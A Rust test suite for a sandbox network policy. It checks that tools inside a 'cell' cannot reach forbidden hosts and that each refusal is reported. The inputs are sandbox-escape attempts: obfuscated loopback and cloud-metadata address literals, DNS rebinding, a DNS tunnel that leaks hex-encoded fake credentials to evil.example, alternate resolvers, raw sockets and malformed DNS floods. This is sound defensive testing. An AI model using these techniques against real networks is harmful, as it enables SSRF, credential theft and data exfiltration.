//! What a cell with a network must withstand: whatever a tool tries, nobody who is not allowed sees
//! anything of it, the tool has its error at once, and the outcome says what would allow it.
//!
//! Each test looks from the host's side, where every packet is seen (`programs/internet.py`), and has
//! beside it what is allowed.

use harness::internet::{AT_ONCE_MILLIS, Internet, OTHER, WWW, WWW_ONLY, allow};

const HOST: &str = "no entry of `network.allow` covers it";

#[test]
fn address_literals_in_every_notation_reach_nobody() {
    // In a cell these are its own loopback.
    let own = [
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "127.0.0.1",
        "0.0.0.0",
        "0",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
    ];
    let others = [
        ("134744072", "8.8.8.8:80"),
        ("0x08080808", "8.8.8.8:80"),
        ("010.8.8.8", "8.8.8.8:80"),
        ("93.184.215.14", "93.184.215.14:80"),
        ("169.254.169.254", "169.254.169.254:80"),
        ("2852039166", "169.254.169.254:80"),
        ("[::ffff:169.254.169.254]", "169.254.169.254:80"),
        ("[64:ff9b::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]:80"),
        ("[64:ff9b::7f00:1]", "[64:ff9b::7f00:1]:80"),
        ("[2002:7f00:1::]", "[2002:7f00:1::]:80"),
        ("[2606:4700::1111]", "[2606:4700::1111]:80"),
    ];
    Internet::everyone(|internet, world| {
        let all = own.into_iter().chain(others.map(|(literal, _)| literal));
        let all: Vec<_> = all.collect();
        let script = format!(
            "for literal in {all:?}:\n    attempt(literal, curl, '-g', f'http://{{literal}}/')\n\
             attempt('control', get, 'www.example.org')"
        );
        let (tried, seen) = internet.try_in_cell(world, WWW_ONLY, &script);
        for literal in all {
            let answer = tried.answer(literal);
            assert!(answer.starts_with("curl 7:"), "{literal}: {answer}");
            assert!(
                tried.millis(literal) < AT_ONCE_MILLIS,
                "{literal}: {tried:#?}"
            );
        }
        for (_, to) in others {
            // No entry can list an address that carries another one.
            let carries = to.starts_with("[64:") || to.starts_with("[2002:");
            let line = if carries { String::new() } else { allow(to) };
            tried.denied(&format!("connect to {to}"), HOST, &line);
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);

        let outside = internet.attempts_outside(
            world,
            "for literal in ('2130706433', '0x7f.1', '[::]', '134744072', '[64:ff9b::7f00:1]'):\n\
             \x20   attempt(literal, curl, '-g', '-o/dev/null', f'http://{literal}/')",
        );
        for literal in outside.names() {
            assert_eq!(outside.answer(literal), "", "the control of {literal}");
        }
    });
}

#[test]
fn addresses_around_the_host_reach_nobody() {
    let addresses = [
        ("127.0.0.1", 80),
        ("::1", 80),
        ("10.0.0.5", 80),
        ("192.168.1.1", 80),
        ("169.254.169.254", 80),
        ("100.64.0.1", 80),
        ("fd00:ec2::254", 80),
        ("fe80::1", 80),
        ("2606:4700::1111", 443),
        (OTHER, 443),
        (OTHER, 22),
    ];
    Internet::everyone(|internet, world| {
        let tried =
            addresses.map(|(to, port)| format!("attempt('{to} {port}', connect, '{to}', {port})"));
        let script = format!(
            "{}\nattempt('control', get, 'www.example.org')",
            tried.join("\n")
        );
        let (tried, seen) = internet.try_in_cell(world, WWW_ONLY, &script);
        for (to, port) in addresses {
            let attempt = format!("{to} {port}");
            if to == "fe80::1" {
                // Without the name of a link it leads nowhere.
                assert_ne!(tried.answer(&attempt), "connected");
                continue;
            }
            tried.refused(&attempt);
            if to != "127.0.0.1" && to != "::1" {
                let to = if to.contains(':') {
                    format!("[{to}]")
                } else {
                    to.to_owned()
                };
                let to = format!("{to}:{port}");
                tried.denied(&format!("connect to {to}"), HOST, &allow(&to));
            }
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
    });
}

#[test]
fn names_that_lead_to_special_addresses_lead_nowhere() {
    let names = [
        ("metadata", "169.254.169.254", "link_local"),
        ("private", "10.0.0.5", "private"),
        ("home", "192.168.1.1", "private"),
        ("carrier", "100.64.0.1", "shared"),
        ("loopback", "127.0.0.1", "loopback"),
        ("zero", "0.0.0.0", ""),
        ("multicast", "224.0.0.1", ""),
        ("loopback6", "::1", "loopback"),
        ("mapped", "::ffff:169.254.169.254", "link_local"),
        ("nat64", "64:ff9b::a9fe:a9fe", ""),
        ("sixtofour", "2002:a9fe:a9fe::1", ""),
        ("local6", "fd00:ec2::254", "private"),
        ("link6", "fe80::1", "link_local"),
    ];
    Internet::everyone(|internet, world| {
        let script =
            names.map(|(name, _, _)| format!("attempt('{name}', get, '{name}.example.org')"));
        let script = format!(
            "{}\nattempt('control', get, 'www.example.org')",
            script.join("\n")
        );
        let tables = "[network]\nallow = [\"*.example.org\"]";
        let (tried, seen) = internet.try_in_cell(world, tables, &script);
        for (name, address, kind) in names {
            tried.refused(name);
            let what = format!("connect to {name}.example.org:80 at {address}");
            let line = match kind {
                "" => String::new(),
                kind => format!("network.allow_addresses = [\"{kind}\"]"),
            };
            tried.denied(&what, "which names may not", &line);
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
    });
}

#[test]
fn a_name_that_is_bound_anew_leads_only_where_it_may() {
    Internet::everyone(|internet, world| {
        let tables = "[network]\nallow = [\"rebound.example.org\", \"mixed.example.org\"]";
        let (tried, seen) = internet.try_in_cell(
            world,
            tables,
            "attempt('first', get, 'rebound.example.org')\n\
             attempt('second', get, 'rebound.example.org')\n\
             attempt('mixed', get, 'mixed.example.org')",
        );
        assert_eq!(tried.answer("first"), "HTTP/1.1 200 OK");
        tried.refused("second");
        tried.denied(
            "connect to rebound.example.org:80 at 169.254.169.254",
            "which names may not",
            "network.allow_addresses = [\"link_local\"]",
        );
        assert_eq!(tried.answer("mixed"), "HTTP/1.1 200 OK");
        let sent = [format!("tcp {WWW}:80"), format!("tcp {OTHER}:80")];
        assert_eq!(seen.sent(), sent, "{:?}", world.who);
    });
}

#[test]
fn names_beyond_the_allowed_do_not_exist_and_nobody_is_asked() {
    Internet::everyone(|internet, world| {
        let tables = "[network]\nallow = [\"www.example.org\", \"*.wild.example.net\"]\n\
                      deny = [\"secret.wild.example.net\"]";
        let (tried, seen) = internet.try_in_cell(
            world,
            tables,
            r#"
attempt("other", address, "other.example.org")
attempt("bare", address, "wild.example.net")
attempt("prefix", address, "www.example.org.evil.example")
attempt("suffix", address, "evilwww.example.org")
attempt("denied", address, "secret.wild.example.net")
attempt("tunnel", address, "6d7920736563726574206b6579206973.aabbccddeeff00112233.evil.example")
secret = "4a6f686e20446f652c2070617373776f72642068756e746572322c20636172642034"
attempt("beneath", address, secret[:60] + ".wild.example.net")
attempt("control", get, "a.wild.example.net")
attempt("unassigned", connect, "198.19.0.60", 80)
"#,
        );
        for attempt in [
            "unassigned",
            "other",
            "bare",
            "prefix",
            "suffix",
            "denied",
            "tunnel",
            "beneath",
        ] {
            tried.refused(attempt);
        }
        for name in [
            "other.example.org",
            "wild.example.net",
            "evilwww.example.org",
        ] {
            tried.denied(&format!("look up {name}"), HOST, &allow(name));
        }
        tried.denied(
            "look up secret.wild.example.net",
            "`network.deny` covers it",
            "",
        );
        tried.denied(
            "a DNS query for a name that carries data",
            "names must not carry",
            "",
        );
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), ["tcp 151.101.0.223:80"], "{:?}", world.who);
        let mut asked = seen.questions();
        asked.dedup();
        assert_eq!(asked, ["a.wild.example.net"], "{:?}", world.who);
    });
}

#[test]
fn a_tunnel_of_many_short_names_beneath_a_wildcard_ends() {
    Internet::everyone(|internet, world| {
        let tables = "[network]\nallow = [\"*.wild.example.net\"]";
        let (tried, seen) = internet.try_in_cell(
            world,
            tables,
            "answers = [ask('198.18.0.1', question(f'part{n}.wild.example.net')) for n in range(600)]\n\
             attempt('first', lambda: answers[0])\n\
             attempt('answered', lambda: sum(answer == 'NOERROR 1' for answer in answers))\n\
             attempt('last', lambda: answers[-1])",
        );
        assert_eq!(tried.answer("first"), "NOERROR 1");
        assert_eq!(tried.answer("last"), "NXDOMAIN 0");
        let answered: usize = tried.answer("answered").parse().expect("a number");
        assert!(answered <= 256, "{answered}");
        let denials = tried.outcome["denials"].to_string();
        assert!(denials.contains("names"), "{denials}");
        assert_eq!(
            seen.questions(),
            [""; 0],
            "asking alone asks nobody on the host"
        );
    });
}

#[test]
fn another_port_of_an_allowed_host_is_refused() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            "[network]\nallow = [\"www.example.org:80\"]",
            "attempt('tls', connect, 'www.example.org', 443)\n\
             attempt('other', connect, 'www.example.org', 8080)\n\
             attempt('ssh', connect, 'www.example.org', 22)\n\
             attempt('control', get, 'www.example.org')",
        );
        for (attempt, port) in [("tls", 443), ("other", 8080), ("ssh", 22)] {
            tried.refused(attempt);
            let to = format!("www.example.org:{port}");
            tried.denied(
                &format!("connect to {to}"),
                "but not this port",
                &allow(&to),
            );
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
    });
}

#[test]
fn what_is_no_name_does_not_exist() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            r#"
def labels(*found):
    return ask("198.18.0.1", question("", labels=found))
attempt("line", labels, b"www", b"example\r\n", b"org")
attempt("nul", labels, b"www", b"example", b"org\0")
attempt("dot", labels, b"www.example", b"org")
attempt("space", labels, b"www ", b"example", b"org")
attempt("slash", labels, b"www.example.org/", b"example", b"org")
attempt("raw", labels, "bücher".encode(), b"example", b"org")
attempt("library", address, "www.example.org\t")
attempt("control", labels, b"wWw", b"EXAMPLE", b"org")
"#,
        );
        for attempt in ["line", "nul", "dot", "space", "slash", "raw"] {
            assert_eq!(tried.answer(attempt), "NXDOMAIN 0", "{attempt} {tried:#?}");
        }
        assert_ne!(tried.answer("library"), "198.18.1.1");
        let denials = tried.outcome["denials"].to_string();
        assert!(denials.contains("it is no host name"), "{denials}");
        assert_eq!(tried.answer("control"), "NOERROR 1");
        assert_eq!(seen.questions(), [""; 0], "{:?}", world.who);
    });
}

#[test]
fn whoever_is_asked_for_names_the_cells_resolver_answers() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            r#"
for stream in (False, True):
    attempt(f"own {stream}", ask, "198.18.0.1", question("www.example.org"), stream)
    attempt(f"allowed {stream}", ask, "8.8.8.8", question("www.example.org"), stream)
    attempt(f"denied {stream}", ask, "8.8.8.8", question("other.example.org"), stream)
attempt("sixth", ask, "8.8.8.8", question("www.example.org", 28))
attempt("service", ask, "8.8.8.8", question("www.example.org", 65))
attempt("by six", ask, "2001:4860:4860::8888", question("www.example.org"))
attempt("over tls", secured, "8.8.8.8", "dns.google", 853)
attempt("over https", secured, "1.1.1.1", "one.one.one.one")
"#,
        );
        for stream in ["False", "True"] {
            assert_eq!(tried.answer(&format!("own {stream}")), "NOERROR 1");
            assert_eq!(tried.answer(&format!("allowed {stream}")), "NOERROR 1");
            assert_eq!(tried.answer(&format!("denied {stream}")), "NXDOMAIN 0");
        }
        assert_eq!(tried.answer("sixth"), "NOERROR 0");
        assert_eq!(tried.answer("service"), "NOERROR 0");
        for attempt in ["by six", "over tls", "over https"] {
            tried.refused(attempt);
        }
        tried.denied(
            "look up other.example.org",
            HOST,
            &allow("other.example.org"),
        );
        for to in ["8.8.8.8:853", "1.1.1.1:443"] {
            tried.denied(&format!("connect to {to}"), HOST, &allow(to));
        }
        assert_eq!(seen.sent(), [""; 0], "{:?}", world.who);
        assert_eq!(seen.questions(), [""; 0], "{:?}", world.who);
    });
}

#[test]
fn datagrams_reach_nobody() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            "attempt('quic', send, address('www.example.org'), 443)\n\
             attempt('address', send, '93.184.215.14', 443)\n\
             attempt('sixth', send, '2606:4700::1111', 443)\n\
             attempt('time', send, '8.8.8.8', 123)\n\
             attempt('control', secured, 'www.example.org', 'www.example.org')",
        );
        for (attempt, to) in [
            ("quic", "www.example.org:443"),
            ("address", "93.184.215.14:443"),
            ("sixth", "[2606:4700::1111]:443"),
            ("time", "8.8.8.8:123"),
        ] {
            tried.refused(attempt);
            tried.denied(&format!("send to {to} (udp)"), "only TCP leaves a cell", "");
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:443")], "{:?}", world.who);
    });
}

#[test]
fn sockets_of_other_kinds_cannot_be_had() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            r#"
import ctypes, errno as numbers
def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 8, ctypes.create_string_buffer(256)) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    return "opened"
attempt("ping", open_socket, socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
attempt("raw", open_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
attempt("raw6", open_socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
attempt("packet", open_socket, socket.AF_PACKET, socket.SOCK_RAW, 3)
attempt("vsock", open_socket, socket.AF_VSOCK, socket.SOCK_STREAM)
attempt("audit", open_socket, socket.AF_NETLINK, socket.SOCK_RAW, 9)
attempt("filter", open_socket, socket.AF_NETLINK, socket.SOCK_RAW, 12)
attempt("xdp", open_socket, 44, socket.SOCK_RAW)
attempt("alg", open_socket, socket.AF_ALG, socket.SOCK_SEQPACKET)
attempt("mptcp", open_socket, socket.AF_INET, socket.SOCK_STREAM, 262)
attempt("sctp", open_socket, socket.AF_INET, socket.SOCK_STREAM, 132)
attempt("io_uring", io_uring)
attempt("abstract", abstract, "toolcell-test-internet")
attempt("stream", open_socket, socket.AF_INET, socket.SOCK_STREAM)
attempt("control", get, "www.example.org")
"#,
        );
        let refusals = [
            "EPERM",
            "EACCES",
            "EAFNOSUPPORT",
            "EPROTONOSUPPORT",
            "ENOSYS",
            "ECONNREFUSED",
        ];
        for attempt in [
            "ping", "raw", "raw6", "packet", "vsock", "audit", "filter", "xdp", "alg", "mptcp",
            "sctp", "io_uring", "abstract",
        ] {
            let answer = tried.answer(attempt);
            assert!(
                refusals.contains(&answer),
                "{:?} {attempt}: {answer}",
                world.who
            );
        }
        assert_eq!(tried.answer("stream"), "opened");
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
        assert_eq!(seen.of("abstract").count(), 0, "{:?}", world.who);

        let outside = internet.attempts_outside(
            world,
            "attempt('abstract', abstract, 'toolcell-test-internet')",
        );
        assert_eq!(outside.answer("abstract"), "connected");
        let _ = internet.until(|seen| seen.of("abstract").next().is_some());
    });
}

#[test]
fn what_is_refused_last_is_told() {
    // What the kernel refuses is told by a watcher, which may not have been read when the tool ends.
    const CALLS: usize = 20;
    Internet::everyone(|internet, world| {
        let profile = harness::internet::network(world, WWW_ONLY);
        let code = "import os, socket\n\
                    c = socket.socket()\n\
                    os._exit(c.connect_ex(('8.8.8.8', 853)) != 111)";
        for _ in 0..CALLS {
            let outcome = world.run(&profile, &["/usr/bin/python3", "-I", "-S", "-c", code]);
            assert_eq!(outcome["exit_code"], 0, "{:?} {outcome:#}", world.who);
            harness::internet::assert_denied(
                &outcome,
                "connect to 8.8.8.8:853",
                HOST,
                &allow("8.8.8.8:853"),
            );
        }
        assert_eq!(internet.seen().sent(), [""; 0], "{:?}", world.who);
        // The control: nothing is told of one who tries nothing.
        let outcome = world.run(&profile, &["/usr/bin/true"]);
        assert_eq!(outcome["denials"], serde_json::json!([]), "{outcome:#}");
    });
}

#[test]
fn garbage_for_the_resolver_ends_nothing() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            r#"
resolver = "198.18.0.1"
usual = question("www.example.org")
garbage = [
    b"", b"\0", b"\0" * 12, b"\xff" * 512, usual[:-1], usual[:12], usual + b"\0" * 4000,
    usual[:12] + b"\xc0\x0c\0\1\0\1",  # a name that points at itself
    usual[:12] + b"\x3f" + b"a" * 62 + b"\0\0\1\0\1",
    usual[:4] + b"\xff\xff" * 4 + usual[12:],  # counts that nothing follows
    usual[:2] + b"\x81\x80" + usual[4:],  # an answer
]
def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        for message in garbage * 5:  # more would not fit into its buffer
            connection.sendto(message, (resolver, 53))
def streams():
    for message in garbage:
        for length in (len(message), 0, 65535):
            with socket.create_connection((resolver, 53)) as connection:
                connection.sendall(struct.pack("!H", length) + message)
def stalled():
    held = [socket.create_connection((resolver, 53)) for _ in range(40)]
    return ask(resolver, usual)
attempt("flood", flood)
attempt("streams", streams)
attempt("stalled", stalled)
attempt("control", get, "www.example.org")
"#,
        );
        assert_eq!(tried.answer("stalled"), "NOERROR 1", "{tried:#?}");
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK", "{tried:#?}");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
    });
}

#[test]
fn data_in_the_first_packet_of_a_connection_reaches_nobody() {
    Internet::everyone(|internet, world| {
        let (tried, seen) = internet.try_in_cell(
            world,
            WWW_ONLY,
            r#"
def fast_open(host, port):
    with socket.socket() as connection:
        connection.sendto(b"GET / HTTP/1.1\r\n\r\n", socket.MSG_FASTOPEN, (host, port))
        return connection.recv(1)
attempt("address", fast_open, "8.8.8.8", 80)
attempt("loopback", fast_open, "127.0.0.1", 80)
attempt("control", get, "www.example.org")
"#,
        );
        for attempt in ["address", "loopback"] {
            let refusals = ["ECONNREFUSED", "EPERM", "ENOTSUP"];
            assert!(refusals.contains(&tried.answer(attempt)), "{tried:#?}");
        }
        assert_eq!(tried.answer("control"), "HTTP/1.1 200 OK");
        assert_eq!(seen.sent(), [format!("tcp {WWW}:80")], "{:?}", world.who);
    });
}
